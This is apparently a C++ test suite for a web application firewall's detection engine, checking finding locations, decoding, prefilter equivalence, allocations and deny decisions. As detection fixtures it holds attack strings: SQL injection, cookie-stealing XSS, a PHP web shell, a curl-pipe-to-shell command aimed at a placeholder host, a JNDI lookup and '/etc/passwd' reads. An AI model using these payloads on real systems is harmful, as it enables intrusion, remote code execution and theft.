// The engine as a whole: findings with their places, flags, and the prefilter against its slow twin.
#include "detect/engine.h"

#include <atomic>
#include <random>
#include <string>

#include <gtest/gtest.h>

#include "detect/analyzers.h"
#include "detect/offline.h"
#include "tests/detect/full_engine.h"

namespace wafd::detect {
extern std::atomic<std::size_t> allocations;  // allocations_test.cc

namespace {

// rule number, location, name, decode path, raw piece
std::string dump(const Verdict& verdict, const Request& request) {
  std::string out;
  for (const Finding& finding : verdict.findings) {
    const std::string_view whole = finding.in_body ? request.body : request.head;
    out += std::to_string(finding.rule->number) + " " + to_string(finding.location, finding.in_name) + " " +
           finding.name + " [" + finding.decode_path + "] " +
           std::string(whole.substr(finding.raw_begin, finding.raw_end - finding.raw_begin)) + "\n";
  }
  return out;
}

class Places : public testing::Test {
 protected:
  std::string inspect(const std::string& bytes) {
    static const std::string rules =
        R"({"rules":[{"id":"m","number":10000,"name":"M","attack_type":"custom","risk":"low","location":["any","query_name","body_name","file_name"],"expression":"m4rk"}]})";
    const RuleFile file{"f.json", rules};
    static const auto engine = Engine::build({}, std::span(&file, 1), Engine::Options{false, true});
    const auto scratch = (*engine)->make_scratch();
    bytes_ = bytes;
    request_ = split_request(bytes_);
    (*engine)->inspect(request_, *scratch, verdict_);
    return dump(verdict_, request_);
  }
  std::string bytes_;
  Request request_;
  Verdict verdict_;
};

TEST_F(Places, TheRawPieceThatCarriedTheMatch) {
  EXPECT_EQ(inspect("GET /am4rkb HTTP/1.1\r\n\r\n"), "10000 urlpath  [] m4rk\n");
  EXPECT_EQ(inspect("GET /?a=xm4rk&b=%6d4rk HTTP/1.1\r\n\r\n"),
            "10000 query a [] m4rk\n10000 query b [percent] %6d4rk\n");
  EXPECT_EQ(inspect("GET /?m4rk=1 HTTP/1.1\r\n\r\n"), "10000 query_name m4rk [] m4rk\n");
  EXPECT_EQ(inspect("GET / HTTP/1.1\r\nCookie: k=m4rk\r\nX: m4rk\r\n\r\n"),
            "10000 cookie k [] m4rk\n10000 header X [] m4rk\n");
  EXPECT_EQ(inspect("POST / HTTP/1.1\r\n\r\n{\"a\":{\"b\":[\"x\",\"zm4rk\"]}}"),
            "10000 body a.b[1] [json] m4rk\n");
  EXPECT_EQ(inspect("POST / HTTP/1.1\r\n\r\n{\"q\":\"a \\\" b\",\"a\":\"\\u006d4rk\"}"),
            "10000 body a [json] \\u006d4rk\n");
  EXPECT_EQ(inspect("POST / HTTP/1.1\r\n\r\nf=%7B%22a%22%3A%22m4rk%22%7D"),
            "10000 body f.a [percent|json] %7B%22a%22%3A%22m4rk%22%7D\n");
  EXPECT_EQ(inspect("POST / HTTP/1.1\r\nContent-Type: multipart/form-data; "
                    "boundary=X\r\n\r\n--X\r\nContent-Disposition: "
                    "form-data; name=f; filename=m4rk.x\r\n\r\nam4rk\r\n--X--\r\n"),
            "10000 file_name f [] m4rk\n10000 file f [] m4rk\n");
}

// What little around a change shows is judged in all that is judged of the text.
TEST_F(Places, OfAChangeInALongText) {
  std::string words;
  for (int i = 0; i < 150; ++i) words += "w" + std::to_string(i * 7919) + "+";
  EXPECT_EQ(inspect("GET /?a=" + words + "%256d4rk+" + words + " HTTP/1.1\r\n\r\n").substr(0, 35),
            "10000 query a [plus|percent|percent");
  EXPECT_EQ(verdict_.findings.size(), 1u);
  EXPECT_GT(verdict_.findings[0].excerpt.size(), 200u);
  std::string text;
  for (int i = 0; i < 150; ++i) text += "word" + std::to_string(i * 7919) + " ";
  constexpr std::string_view kAttacks[] = {
      "1\\u0027 union select password from users-- -", "\\u003cscript>alert(document.cookie)</script>",
      "\\u003c?php system($_GET[0]); ?>", "&#36;(curl http://a.example/x|sh)",
      "%24{jndi:ldap://a.example/x}"};
  const auto scratch = full_engine().make_scratch();
  for (const std::string_view attack : kAttacks) {
    for (const std::size_t before : {0u, 300u, 1200u}) {
      const std::string bytes = "POST / HTTP/1.1\r\nContent-Type: text/plain\r\n\r\n" +
                                text.substr(0, before) + std::string(attack) + "\n" + text;
      full_engine().inspect(split_request(bytes), *scratch, verdict_);
      EXPECT_FALSE(verdict_.findings.empty()) << attack << " " << before;
      EXPECT_FALSE(verdict_.limit_reached);
    }
  }
}

TEST_F(Places, PayloadAndExcerptAreBounded) {
  inspect("GET /?a=" + std::string(3000, 'x') + "m4rk" + std::string(3000, 'y') + " HTTP/1.1\r\n\r\n");
  ASSERT_EQ(verdict_.findings.size(), 1u);
  EXPECT_EQ(verdict_.findings[0].payload, "m4rk");
  EXPECT_EQ(verdict_.findings[0].excerpt.size(), 256u);
  EXPECT_NE(verdict_.findings[0].excerpt.find("xm4rky"), std::string::npos);
}

TEST_F(Places, OneRuleIsShownAFewTimesAndAnotherIsNotHiddenByIt) {
  std::string query;
  for (int i = 0; i < 50; ++i) query += "a=m4rk&";
  inspect("GET /?" + query + " HTTP/1.1\r\n\r\n");
  EXPECT_EQ(verdict_.findings.size(), 4u);
}

TEST_F(Places, Flags) {
  inspect("POST / HTTP/1.1\r\n\r\nbody");
  EXPECT_EQ(verdict_.total_bytes, bytes_.size());
  EXPECT_EQ(verdict_.inspected_bytes, bytes_.size());
  EXPECT_FALSE(verdict_.body_truncated || verdict_.body_abandoned || verdict_.limit_reached);
  const auto engine = Engine::build({}, {}, Engine::Options{false, true});
  const auto scratch = (*engine)->make_scratch();
  Request request = split_request("POST / HTTP/1.1\r\n\r\n");
  request.body_truncated = true;
  (*engine)->inspect(request, *scratch, verdict_);
  EXPECT_TRUE(verdict_.body_truncated);
  request.body_truncated = false;
  request.body_abandoned = true;
  (*engine)->inspect(request, *scratch, verdict_);
  EXPECT_TRUE(verdict_.body_abandoned);
}

class CallCounter final : public Analyzer {
 public:
  explicit CallCounter(std::size_t& calls) : calls_(calls) {}
  std::string_view name() const noexcept override { return "counter"; }
  std::span<const Rule> rules() const noexcept override { return {}; }
  void analyze(std::string_view text, const FieldContext&, std::vector<Hit>&) const override {
    calls_ += text == "same text" ? 1 : 0;
  }

 private:
  std::size_t& calls_;
};

TEST(Engine, AValueThatADocumentRepeatsIsJudgedOnce) {
  std::size_t calls = 0;
  std::vector<std::unique_ptr<Analyzer>> analyzers;
  analyzers.push_back(std::make_unique<CallCounter>(calls));
  const auto engine = Engine::build(std::move(analyzers), {}, Engine::Options{false, true});
  ASSERT_TRUE(engine);
  const auto scratch = (*engine)->make_scratch();
  Verdict verdict;
  const auto judge = [&](const std::string& body) {
    calls = 0;
    const std::string bytes = "POST / HTTP/1.1\r\nContent-Type: application/json\r\n\r\n" + body;
    (*engine)->inspect(split_request(bytes), *scratch, verdict);
    return calls;
  };
  EXPECT_EQ(judge(R"([{"v":"same text"},{"v":"other"},{"v":"same text"},{"v":"same text"}])"), 1u);
  EXPECT_EQ(judge(R"([{"v":"same text"}])"), 0u);                    // known from the request before
  EXPECT_EQ(judge(R"([{"x":"same text"},{"y":"same text"}])"), 2u);  // a name may mean something
}

TEST(Engine, RulesHaveNumbersAndIdsOfTheirOwn) {
  const auto rules = full_engine().rules();
  ASSERT_GT(rules.size(), 100u);
  for (std::size_t i = 0; i < rules.size(); ++i) {
    if (i > 0) {
      EXPECT_LT(rules[i - 1]->number, rules[i]->number);
    }
    EXPECT_TRUE(rules[i]->id.starts_with(rules[i]->module + "/")) << rules[i]->id;
    EXPECT_EQ(rules[i]->id.size(), rules[i]->module.size() + 33) << rules[i]->id;
    EXPECT_FALSE(rules[i]->name.empty());
  }
}

TEST(Engine, AnyBytesGiveAVerdict) {
  const auto scratch = full_engine().make_scratch();
  Verdict verdict;
  std::mt19937 random(3);
  for (int round = 0; round < 200; ++round) {
    std::string bytes(random() % 3000, '\0');
    for (char& c : bytes) c = static_cast<char>(random());
    if (round % 2 == 0) bytes.insert(0, "POST / HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"a\":[");
    full_engine().inspect(split_request(bytes), *scratch, verdict);
    EXPECT_EQ(verdict.total_bytes, bytes.size());
  }
}

// Pieces of attacks and of ordinary values, put together at random: the prefilter must not lose what the
// analysers would find.
TEST(Engine, ThePrefilterLosesNothing) {
  Engine::Options slow;
  slow.prefilter = false;
  const auto twin = Engine::build({}, slow);
  ASSERT_TRUE(twin);
  const auto scratch = full_engine().make_scratch();
  const auto twin_scratch = (*twin)->make_scratch();
  const char* pieces[] = {"'",    " or ",     "1=1",      "--",          "union select ",
                          "null", "<script>", "alert(1)", "onerror=",    "javascript:",
                          ";",    "|",        "cat ",     "/etc/passwd", "$(id)",
                          "`",    "../",      "%27",      "%2e%2e%2f",   "\\x3c",
                          "&lt;", "hello ",   "world",    "O'Brien",     "price < 5",
                          "a=b",  "{{7*7}}",  "${",       "}",           "\"",
                          ")",    "(",        "sleep(5)", "/*",          "*/",
                          "#",    "\n",       "+",        "php://input"};
  std::mt19937 random(11);
  std::size_t found = 0;
  Verdict verdict;
  Verdict twin_verdict;
  for (int round = 0; round < 3000; ++round) {
    std::string body = "q=";
    for (std::size_t n = 1 + random() % 6; n > 0; --n) body += pieces[random() % std::size(pieces)];
    const std::string bytes = "POST /?x=" + std::string(pieces[random() % 20]) +
                              " HTTP/1.1\r\nContent-Type: text/plain\r\n\r\n" + body;
    const Request request = split_request(bytes);
    full_engine().inspect(request, *scratch, verdict);
    (*twin)->inspect(request, *twin_scratch, twin_verdict);
    ASSERT_EQ(dump(verdict, request), dump(twin_verdict, request)) << bytes;
    found += verdict.findings.empty() ? 0 : 1;
  }
  EXPECT_GT(found, 300u);
}

// Of ten rounds of ordinary requests the last five.
std::size_t allocations_of(const Engine& engine) {
  const std::string requests[] = {
      "GET /shop/list?page=2&sort=price&q=blue+shoes%21 HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0 (X11; "
      "Linux x86_64)\r\n"
      "Cookie: session=4f1c2a9be07d; theme=dark\r\nReferer: https://a/b?c=d\r\n\r\n",
      "POST /order HTTP/1.1\r\nContent-Type: "
      "application/"
      "x-www-form-urlencoded\r\n\r\nname=Ann+Other&city=K%C3%B6ln&n=3&note=see+https%3A%2F%2Fa.example"
      "%2Fb+or+call",
      "POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"id\":7,\"name\":\"a "
      "thing\",\"tags\":[\"new\",\"blue\"],\"path\":\"a\\/b.html\"}",
  };
  const auto scratch = engine.make_scratch();
  Verdict verdict;
  std::size_t made = 0;
  // Other values in every round, so that none of them is remembered as clean; each kind of buffer has then
  // grown.
  for (int round = 0; round < 10; ++round) {
    for (std::string bytes : requests) {
      for (char& c : bytes) {
        if (c == '7' || c == '3' || c == '2') c = static_cast<char>('0' + round);
      }
      const Request request = split_request(bytes);
      const std::size_t before = allocations;
      engine.inspect(request, *scratch, verdict);
      if (round >= 5) made += allocations - before;
      EXPECT_TRUE(verdict.findings.empty()) << bytes;
    }
  }
  return made;
}

TEST(Engine, OrdinaryRequestsAllocateNothingInTheSteadyState) {
  const std::size_t made = allocations_of(full_engine());
  std::string by_analyser;
  for (auto& analyzer : made == 0 ? std::vector<std::unique_ptr<Analyzer>>() : all_analyzers()) {
    const std::string name(analyzer->name());
    std::vector<std::unique_ptr<Analyzer>> one;
    one.push_back(std::move(analyzer));
    const auto engine = Engine::build(std::move(one), {}, Engine::Options{false, true});
    if (const std::size_t count = allocations_of(**engine); count != 0)
      by_analyser += name + ": " + std::to_string(count) + "\n";
  }
  EXPECT_EQ(made, 0u) << by_analyser;
}

// A program is stored for what it says: strict denies it, and what only a server would run is denied anyway.
TEST(Engine, SourcesThatAreStored) {
  const auto engine = Engine::build({});
  ASSERT_TRUE(engine);
  const auto scratch = (*engine)->make_scratch();
  Verdict verdict;
  const auto denies = [&](const std::string& path, const std::string& text, Sensitivity sensitivity) {
    const std::string bytes =
        "PUT " + path + " HTTP/1.1\r\nHost: a.example\r\nContent-Type: text/plain\r\n\r\n" + text;
    (*engine)->inspect(split_request(bytes), *scratch, verdict);
    return deciding_finding(verdict, sensitivity) >= 0;
  };
  const std::string script =
      "#!/bin/sh\nset -e\nrsync -a /srv/ /backup/ && find /backup -mtime +30 -delete\n";
  EXPECT_FALSE(denies("/dav/backup.sh", script, Sensitivity::kBalanced));
  EXPECT_TRUE(denies("/dav/backup.sh", script, Sensitivity::kStrict));
  for (const char* path : {"/items/5", "/items/10.0.0.5", "/cgi-bin/backup.sh", "/index.php/backup.sh"})
    EXPECT_TRUE(denies(path, script, Sensitivity::kBalanced)) << path;
  EXPECT_TRUE(denies("/notes.txt", "<?php\nsystem($_GET[1]);\n", Sensitivity::kBalanced));
  EXPECT_TRUE(denies("/notes.txt", "a=127.0.0.1;cat /etc/passwd&b=\nc", Sensitivity::kBalanced));
}

TEST(Offline, SplitsHeadAndBody) {
  struct Row {
    const char* bytes;
    const char* head;
    const char* body;
  };
  const Row rows[] = {
      {"GET / HTTP/1.1\r\nA: b\r\n\r\nbody", "GET / HTTP/1.1\r\nA: b\r\n\r\n", "body"},
      {"GET / HTTP/1.1\nA: b\n\nbody\r\n\r\nmore", "GET / HTTP/1.1\nA: b\n\n", "body\r\n\r\nmore"},
      {"GET / HTTP/1.1\r\nA: b\r\n", "GET / HTTP/1.1\r\nA: b\r\n", ""},
      {"\r\nGET / HTTP/1.1\r\n\r\nbody", "\r\nGET / HTTP/1.1\r\n\r\n", "body"},
      {"", "", ""},
  };
  for (const Row& row : rows) {
    const Request request = split_request(row.bytes);
    EXPECT_EQ(request.head, row.head);
    EXPECT_EQ(request.body, row.body);
  }
}

TEST(Offline, TheWeightiestOfThoseThatDeny) {
  Rule low{1, "", "", "", "", AttackType::kCustom, Risk::kLow, Sensitivity::kLow};
  Rule high{2, "", "", "", "", AttackType::kCustom, Risk::kHigh, Sensitivity::kStrict};
  Rule sure{3, "", "", "", "", AttackType::kCustom, Risk::kHigh, Sensitivity::kBalanced};
  Rule never{4, "", "", "", "", AttackType::kCustom, Risk::kHigh, std::nullopt};
  Verdict verdict;
  for (const Rule* rule : {&never, &low, &high, &sure}) {
    verdict.findings.emplace_back().rule = rule;
    verdict.findings.back().denies_from = rule->denies_from;
  }
  EXPECT_EQ(deciding_finding(verdict, Sensitivity::kLow), 1);
  EXPECT_EQ(deciding_finding(verdict, Sensitivity::kBalanced), 3);
  EXPECT_EQ(deciding_finding(verdict, Sensitivity::kStrict), 3);
  verdict.findings.resize(1);
  EXPECT_EQ(deciding_finding(verdict, Sensitivity::kStrict), -1);
}

}  // namespace
}  // namespace wafd::detect
